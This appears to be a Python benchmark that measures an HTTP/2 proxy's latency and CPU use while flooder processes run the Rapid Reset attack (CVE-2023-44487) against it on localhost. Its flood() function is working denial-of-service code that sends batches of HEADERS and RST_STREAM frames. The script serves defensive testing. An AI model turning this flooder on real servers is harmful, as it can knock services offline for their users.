#!/usr/bin/python3
"""Latency of well-behaved HTTP/2 clients while others flood the proxy with rapid resets
(CVE-2023-44487): measured, not asserted.

    bench/rapid_reset.py --port P --pid PID [--seconds 5] [--flooders 2] [--path /]

Runs h2load (4 connections, 1 stream each: every request waits for the one before) against the
proxy on 127.0.0.1:P twice, alone and while --flooders processes open streams and reset them at
once (HEADERS then RST_STREAM(CANCEL), in batches, reconnecting whenever the proxy ends the
connection). Prints one line:

    RAPID_RESET p50_us=.. p99_us=.. flood_p50_us=.. flood_p99_us=.. flood_streams=.. flood_connections=.. cpu_ticks=.. flood_cpu_ticks=..

The p50/p99 pairs are the probe's latency without and with the flood; flood_streams how many
streams the flooders managed to open (and reset); cpu ticks the proxy's (PID) over each phase.
Traffic goes to 127.0.0.1 only; every process started here ends by itself after --seconds.
"""

import argparse
import os
import socket
import struct
import subprocess
import sys
import tempfile
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def flood(port, path, seconds, out):
    """One flooder: returns (streams opened, connections made) through `out`."""
    block = (literal(b":method", b"GET") + literal(b":scheme", b"http") + literal(b":authority", b"flood") +
             literal(b":path", path.encode()))
    streams = connections = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=1)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        s.setblocking(False)
        sid = 1
        pending = PREFACE + frame(4, 0, 0) + frame(4, 1, 0)  # SETTINGS, and an ACK for the proxy's
        alive = True
        while alive and time.monotonic() < end:
            batch = bytearray(pending)
            pending = b""
            for _ in range(50):
                batch += frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))  # CANCEL
                sid += 2
            streams += 50
            view = memoryview(bytes(batch))
            while view and alive:
                try:
                    n = s.send(view)
                    view = view[n:]
                except BlockingIOError:
                    time.sleep(0.0005)
                except OSError:
                    alive = False
                try:
                    while True:
                        if not s.recv(65536):
                            alive = False
                            break
                except BlockingIOError:
                    pass
                except OSError:
                    alive = False
                if time.monotonic() >= end:
                    break
            if sid > 2 ** 30:
                alive = False
        s.close()
    with open(out, "w") as f:
        f.write("%d %d\n" % (streams, connections))


def cpu_ticks(pid):
    total = 0
    pids = [pid]
    try:
        children = open("/proc/%d/task/%d/children" % (pid, pid)).read().split()
        pids += [int(c) for c in children]
    except OSError:
        pass
    for p in pids:
        try:
            fields = open("/proc/%d/stat" % p).read().rsplit(")", 1)[1].split()
            total += int(fields[11]) + int(fields[12])
        except OSError:
            pass
    return total


def probe(port, path, seconds, workdir, tag):
    log = os.path.join(workdir, "probe-%s.log" % tag)
    subprocess.run(["h2load", "-c", "4", "-m", "1", "-t", "1", "-D", str(int(seconds)), "--log-file=" + log,
                    "http://127.0.0.1:%d%s" % (port, path)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   timeout=seconds + 30)
    times = sorted(int(line.split("\t")[2]) for line in open(log) if line.count("\t") >= 2)
    if not times:
        return 0, 0
    return times[max(0, int(len(times) * 0.5) - 1)], times[max(0, int(len(times) * 0.99) - 1)]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, default=0)
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--flooders", type=int, default=2)
    ap.add_argument("--path", default="/")
    ap.add_argument("--flood-only", metavar="OUT", help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.flood_only:
        flood(args.port, args.path, args.seconds, args.flood_only)
        return 0
    workdir = tempfile.mkdtemp(prefix="spillway-rapid-reset-")
    before = cpu_ticks(args.pid) if args.pid else 0
    p50, p99 = probe(args.port, args.path, args.seconds, workdir, "alone")
    mid = cpu_ticks(args.pid) if args.pid else 0
    outs = [os.path.join(workdir, "flood-%d" % i) for i in range(args.flooders)]
    flooders = [subprocess.Popen([sys.executable, os.path.abspath(__file__), "--port", str(args.port), "--path",
                                  args.path, "--seconds", str(args.seconds + 1), "--flood-only", out])
                for out in outs]
    time.sleep(0.5)  # the flood is under way before the probe starts
    fp50, fp99 = probe(args.port, args.path, args.seconds, workdir, "flood")
    after = cpu_ticks(args.pid) if args.pid else 0
    streams = conns = 0
    for f, out in zip(flooders, outs):
        f.wait(timeout=args.seconds + 30)
        if os.path.exists(out):
            s, c = open(out).read().split()
            streams += int(s)
            conns += int(c)
    print("RAPID_RESET p50_us=%d p99_us=%d flood_p50_us=%d flood_p99_us=%d flood_streams=%d flood_connections=%d "
          "cpu_ticks=%d flood_cpu_ticks=%d" % (p50, p99, fp50, fp99, streams, conns, mid - before, after - mid))
    return 0


if __name__ == "__main__":
    sys.exit(main())
